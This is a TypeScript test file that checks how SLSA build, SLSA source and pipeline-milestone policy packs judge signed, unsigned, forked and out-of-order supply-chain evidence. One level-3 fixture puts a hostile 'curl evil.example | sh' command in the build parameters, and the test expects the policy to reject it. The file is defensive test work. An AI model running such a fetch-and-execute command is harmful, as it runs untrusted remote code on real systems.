/** What each pack lets pass, and what it does not. */
import { describe, expect, it } from 'vitest';
import { compilePolicy } from '#lib/policy/document/compile.ts';
import { readPolicyValue } from '#lib/policy/document/read-policy.ts';
import { evaluate } from '#lib/policy/evaluate.ts';
import {
  artifact,
  certificate,
  COMMIT,
  evidence,
  failed,
  good,
  provenance,
  scan,
  sourceVsa,
  tests,
  unsigned,
} from '#lib/policy/example.fixture.ts';
import type { EvidenceFact } from '#lib/policy/facts/policy.ts';
import { deriveStatus } from '#lib/status/derive-status.ts';
import { PACKS } from './packs.ts';

const AT = '2026-05-15T00:00:00Z';
const GENERATOR =
  'https://github.com/slsa-framework/slsa-github-generator/.github/workflows/generator_generic_slsa3.yml@refs/tags/v2.1.0';
const withGenerator = () =>
  evidence(provenance({ builderId: GENERATOR }), { signer: certificate({ identity: GENERATOR }) });
const fork = () =>
  evidence(
    provenance({
      source: { uri: null, repository: 'github.com/eve/web', commit: COMMIT, ref: null, entryPoint: null },
    }),
    {
      signer: certificate({
        oids: {
          sourceRepositoryURI: 'https://github.com/eve/web',
          sourceRepositoryDigest: COMMIT,
          runnerEnvironment: 'github-hosted',
        },
      }),
    },
  );

/** The status of an artifact by a pack: `verified`, or the status and the rule that decides. */
function statusOf(id: string, items: EvidenceFact[], aboutCommit?: EvidenceFact[]): string {
  const pack = PACKS.find(({ document }) => document.id === id)!;
  const result = evaluate(
    compilePolicy(pack.document, 1),
    artifact(items, {
      at: AT,
      ...(aboutCommit && { sourceRevisions: [{ digest: `gitCommit:${COMMIT}`, evidence: aboutCommit }] }),
    }),
  );
  const { status, rule } = deriveStatus(result, [], new Date(AT));
  return rule === null ? status : `${status} ${rule}`;
}

describe('the packs', () => {
  it('have different ids, and the words of their documents', () => {
    expect(new Set(PACKS.map(({ document }) => document.id)).size).toBe(PACKS.length);
    for (const { title, description, document } of PACKS) expect(document).toMatchObject({ title, description });
  });

  it.each(PACKS.map(({ document }) => [document.id, document] as const))(
    '%s can be applied as it is',
    (_, document) => {
      expect(readPolicyValue(JSON.parse(JSON.stringify(document)))).toEqual({ ok: true, document });
      for (const { condition } of compilePolicy(document, 1).rules) expect(condition).not.toHaveProperty('unknown');
    },
  );
});

describe('SLSA Build', () => {
  const self = () => evidence(provenance());
  it.each<[string, string, EvidenceFact[], string]>([
    ['level 1: signed provenance', 'slsa-build-l1', [self()], 'verified'],
    [
      'level 1: nothing but unsigned provenance',
      'slsa-build-l1',
      [unsigned(provenance())],
      'incomplete signature-sound',
    ],
    ['level 1: provenance that was changed', 'slsa-build-l1', [failed(provenance())], 'failed signature-sound'],
    ['level 2: the workflow itself', 'slsa-build-l2', [self()], 'verified'],
    ['level 2: a fork', 'slsa-build-l2', [fork()], 'failed source-is-project-commit'],
    ['level 3: the workflow itself', 'slsa-build-l3', [self()], 'failed slsa-build-level'],
    ['level 3: the isolated generator', 'slsa-build-l3', [withGenerator()], 'verified'],
    [
      'level 3: a parameter that the build type does not have',
      'slsa-build-l3',
      [
        evidence(
          provenance({ builderId: GENERATOR, externalParameters: { workflow: {}, script: 'curl evil.example | sh' } }),
          { signer: certificate({ identity: GENERATOR }) },
        ),
      ],
      'failed external-parameters-known',
    ],
  ])('%s', (_, id, items, expected) => {
    expect(statusOf(id, items)).toBe(expected);
  });
});

describe('SLSA Source', () => {
  const vsaOf = (level: number) => sourceVsa({ verifiedLevels: [`SLSA_SOURCE_LEVEL_${level}`] });
  it.each([1, 2, 3, 4])('level %i: that level and higher ones pass, and nothing else', (level) => {
    const found = (about: EvidenceFact[]): string => statusOf(`slsa-source-l${level}`, [evidence(provenance())], about);
    expect(found([vsaOf(level)])).toBe('verified');
    expect(found([vsaOf(4)])).toBe('verified');
    expect(found([vsaOf(level - 1)])).toBe('failed source-level');
    expect(found([])).toBe('incomplete source-level');
    expect(found([unsigned(vsaOf(4).facts)])).toBe('incomplete source-level');
  });
  it('a fork fails, whatever its source level', () => {
    expect(statusOf('slsa-source-l1', [fork()], [vsaOf(4)])).toBe('failed source-is-project-commit');
  });
});

describe('pipeline milestones', () => {
  const at = (minute: number) => `2026-05-14T10:0${minute}:30Z`;
  const signed = (facts: Parameters<typeof evidence>[0], minute: number) =>
    evidence(facts, { signedAt: at(minute), receivedAt: at(minute) });
  const compile = () => signed(provenance({ finishedOn: at(1) }), 1);
  const test = (minute: number) => signed(tests({ finishedOn: at(minute) }), minute);
  const scanned = (minute: number) => signed(scan([], { finishedOn: at(minute) }), minute);
  it.each<[string, EvidenceFact[], string]>([
    ['compiled, tested, scanned', [compile(), test(2), scanned(3)], 'verified'],
    ['scanned before it was tested', [compile(), test(3), scanned(2)], 'failed milestones'],
    ['not scanned', [compile(), test(2)], 'incomplete milestones'],
    ['nothing but what the baseline asks for, in its own order', good(), 'verified'],
  ])('%s', (_, items, expected) => {
    expect(statusOf('pipeline-milestones', items)).toBe(expected);
  });
});
